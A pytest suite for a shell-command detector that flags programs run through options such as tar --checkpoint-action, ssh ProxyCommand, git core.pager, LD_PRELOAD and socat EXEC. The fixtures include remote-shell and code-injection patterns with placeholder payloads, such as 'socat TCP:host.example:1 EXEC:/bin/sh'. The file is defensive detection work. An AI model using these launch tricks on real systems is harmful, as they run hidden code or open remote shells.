"""What programs run on behalf of their words: the table is walked row by row, then the ways to write an option."""

import shlex
import time

import pytest

from guardhouse.detect.shell.programs.launchers import (
    ENVIRONMENT,
    LAUNCHERS,
    PREFIXES,
    STDIN,
    find_code,
    prefixed,
)

CODES = set("shell argv program python perl ruby php lua node awk sed tcl vim sql other".split())


def taken_apart(command):
    """The last command of a pipe, as program, words and environment."""
    words = shlex.split(command)
    if "|" in words:
        words = words[words.index("|") + 1 :]
    environment = {}
    while words and "=" in words[0] and not words[0].startswith("-"):
        name, _, value = words.pop(0).partition("=")
        environment[name] = value
    return words[0].rpartition("/")[2], words, environment


def codes(command):
    return list(find_code(*taken_apart(command)))


def texts(command):
    return [code.text for code in codes(command)]


def inner(command):
    program, words, _ = taken_apart(command)
    index = prefixed(program, words)
    return None if index is None else words[index:]


@pytest.mark.parametrize("row", LAUNCHERS, ids=lambda row: f"{row.program.split()[0]} {row.where}"[:60])
def test_every_row_finds_its_example_and_leaves_the_harmless_use_alone(row):
    assert row.code in CODES
    assert row.example
    assert row.harmless
    found = [code for code in codes(row.example) if code.launcher is row]
    assert found
    assert any("payload" in code.text or code.index == STDIN for code in found)
    assert [code for code in codes(row.harmless) if code.launcher is row] == []


@pytest.mark.parametrize("row", LAUNCHERS, ids=lambda row: f"{row.program.split()[0]} {row.where}"[:60])
def test_the_examples_of_a_row_are_commands_of_its_program(row):
    for command in (row.example, row.harmless):
        program, _, _ = taken_apart(command)
        assert row.program == "*" or program in row.program.split()


@pytest.mark.parametrize("row", PREFIXES, ids=lambda row: f"{row.names.split()[0]} {row.verb}")
def test_every_prefix_finds_where_the_command_begins(row):
    assert inner(row.example) == ["id"]
    assert inner(row.harmless) is None


@pytest.mark.parametrize("row", PREFIXES, ids=lambda row: f"{row.names.split()[0]} {row.verb}")
def test_the_words_of_the_inner_command_are_left_to_it(row):
    assert inner(row.example + " -c payload --eval=x -- y") == ["id", "-c", "payload", "--eval=x", "--", "y"]


@pytest.mark.parametrize(
    "command",
    [
        "tar cf a . --checkpoint-action=exec=payload",
        "tar cf a . --checkpoint-action exec=payload",
        "tar cf a . --checkpoint-act=exec=payload",
        "tar cf a . --checkpoint --checkpoint-action=exec=payload",
        "tar -cf a -Ipayload .",
        "tar -cIpayload -f a .",
        "tar -cfI a -I payload .",
        "tar cIf payload a .",
        "gtar --use-compress-program payload -xf a",
    ],
)
def test_an_option_is_seen_however_it_is_written(command):
    assert "payload" in texts(command)


def test_a_value_that_only_looks_like_an_option_is_none():
    assert texts("tar -cf -Ipayload .") == []
    assert texts("tar -cf a -- -Ipayload") == []
    assert texts("sort -t -k --field-separator --compress-program=payload a") == []


def test_a_flag_that_begins_like_another_option_hides_nothing():
    assert texts("rsync --backup -e payload a b") == ["payload"]
    assert texts("ncat --ssl -e payload host.example 80") == ["payload"]
    assert texts("scp -p -S payload a b") == ["payload"]
    assert texts("git rebase -m -x payload") == ["payload"]
    assert texts("git commit --message payload") == []
    assert texts("start-stop-daemon --start --exec payload") == ["payload"]


def test_options_after_a_script_are_the_scripts():
    assert texts("python3 a.py -c payload") == []
    assert texts("python3 -m pytest -c payload") == []
    assert texts("node a.js -e payload") == []
    assert texts("watch ls -c payload") == ["ls -c payload"]
    assert texts("flock a.lock ls -c payload") == []


def test_versions_targets_and_windows_endings_do_not_hide_a_program():
    assert "payload" in texts("python3.12 -c payload")
    assert "payload" in texts("perl5.36.0 -e payload")
    assert "./payload" in texts("x86_64-linux-gnu-gcc -fplugin=./payload a.c")
    assert "payload" in texts("cmd.exe /c payload")


def test_clusters_end_where_an_option_takes_a_value():
    assert "payload" in texts("perl -lne payload a")
    assert "payload" in texts("python3 -Icpayload")
    assert texts("perl -i.e payload a") == []


def test_code_ends_where_its_bracket_or_quote_is_closed():
    assert "a (b) c" in texts("rpm --eval '%(a (b) c) d'")
    assert "rm -rf x" in texts("""Rscript -e 'x <- 1; system("rm -rf x"); print(2)'""")
    assert [code.text for code in codes("fzf --bind 'a:execute(one),b:execute(two)'")] == ["one", "two"]
    assert "bash -li" in texts("""socat 'exec:"bash -li",pty' -""")
    assert "/bin/sh" in texts("socat TCP:host.example:1 EXEC:/bin/sh,pty,stderr")


def test_configuration_names_are_read_in_any_case_and_with_blanks():
    assert "payload" in texts("git -c CORE.Pager=payload log")
    assert "payload" in texts("ssh -o 'proxycommand payload' host.example")
    assert "payload" in texts("ssh -oProxyCommand=payload host.example")
    assert "payload x=!y" in texts("git -c 'alias.a=!payload x=!y' a")
    assert texts("git -c 'alias.a=log --format=!payload' a") == []


def test_words_that_follow_come_along_with_a_program_and_its_arguments():
    (code,) = codes("fd -e txt -x payload -a -b")
    assert (code.text, code.code, code.index, code.rest) == ("payload", "argv", 4, ("-a", "-b"))


def test_an_environment_variable_is_seen_before_any_program_and_when_exported():
    (code,) = find_code("anything", ["anything"], {"LD_PRELOAD": "./payload.so"})
    assert (code.text, code.index) == ("./payload.so", ENVIRONMENT)
    assert texts("export BASH_ENV=payload") == ["payload"]
    assert texts("export GIT_SSH_COMMAND=payload A=b") == ["payload"]
    assert texts("export PATH=/opt/a:$PATH NODE_ENV=test") == []
    assert texts("declare -x PROMPT_COMMAND=payload") == ["payload"]


def test_pieces_that_are_not_known_are_passed_on():
    (code, *_) = find_code("tar", ["tar", "cf", "a", ".", "--checkpoint-action=exec=\0x"], {})
    assert code.text == "\0x"
    assert list(find_code("tar", ["tar", "\0", "-\0", "--\0=x", ""], {})) == []


@pytest.mark.parametrize(
    "command",
    [
        "git commit -m 'use core.pager=payload and ext::payload'",
        "git log --format=%H -c core",
        "git push -u origin main",
        "git rebase main",
        "git clean -x -d",
        "tar xzf a.tar.gz -C /tmp/x --strip-components 1",
        "rsync -avz --delete src/ dst/",
        "curl -sSL -e https://example.org -o a https://example.org/a",
        "make -j4 CC=gcc test",
        "sort -t: -k2 a",
        "grep -e payload a",
        "ssh -p 22 -i key host.example",
        "docker compose up -d",
        "less -R +G a",
        "socat - TCP:host.example:80",
        "find . -name exec -print",
        "go test -run TestExec ./...",
        "cargo test -p a -- --nocapture",
        "pip install -e .",
        "npm install -D vitest",
        "npm run build -- --exec x",
        "java -Xmx1g -jar a.jar -javaagent:x",
        "openssl x509 -in a -noout",
        "man -k system",
        "apt-get install -y -o Dpkg::Options::=--force-confold a",
        "tmux new -s main",
        "screen -ls",
        "gcc -Wall -o a a.c",
        "rg -e payload --type py",
        "zip -r a.zip src",
        "make -f build/Makefile.ci all",
        "go run ./cmd/server",
        "ansible-playbook -i hosts playbooks/site.yml",
        "node -r dotenv/config a.js",
        "kubectl --kubeconfig /home/ada/.kube/dev get pods",
        "ENV=production NODE_ENV=production GIT_CONFIG_GLOBAL=/dev/null ls",
        "GIT_ASKPASS=true git fetch",
    ],
)
def test_everyday_use_runs_nothing_unseen(command):
    assert codes(command) == []


@pytest.mark.parametrize("program", ["", "tar", "git", "socat", "fzf", "python3", "flock", "npx", "export", "bwrap"])
@pytest.mark.parametrize("word", ["", "-", "--", "-\0", "--=", "=", "-=", "+", "\0", "--a", "'", "-c", "é", "-é"])
def test_no_words_make_it_fail(program, word):
    for words in ([], [program], [program, word], [program, word, word], [program, "-c", word, "--"]):
        assert all(code.index < len(words) for code in find_code(program, words, {"PAGER": word, word: word}))
        inner = prefixed(program, words)
        assert inner is None or 0 < inner <= len(words)


@pytest.mark.parametrize(
    ("program", "words"),
    [
        ("fzf", ["--bind", "execute(" * 50_000]),
        ("fzf", ["--bind=" + "execute(a)" * 20_000]),
        ("tar", ["-I", "a"] * 50_000),
        ("pee", ["a"] * 100_000),
        ("psql", ["-c", "\\! " * 50_000]),
        ("git", ["-c", "filter." + "." * 100_000]),
        ("perl", ["-" + "a" * 100_000]),
        ("ssh", ["-o", "proxycommand" + " " * 100_000]),
        ("npx", ["-y"] * 100_000),
    ],
)
def test_long_commands_take_time_in_proportion(program, words):
    begin = time.perf_counter()
    for code in find_code(program, [program, *words], {}):
        assert code.text or code.index == STDIN
    prefixed(program, [program, *words])
    assert time.perf_counter() - begin < 2


def test_a_program_that_is_not_known_costs_next_to_nothing():
    words = ["mytool", "-c", "x"]
    best = min(_duration(words) for _ in range(20))
    assert best / 1000 < 10e-6


def _duration(words):
    begin = time.perf_counter()
    for _ in range(1000):
        for _ in find_code("mytool", words, {}):
            pass
        prefixed("mytool", words)
    return time.perf_counter() - begin
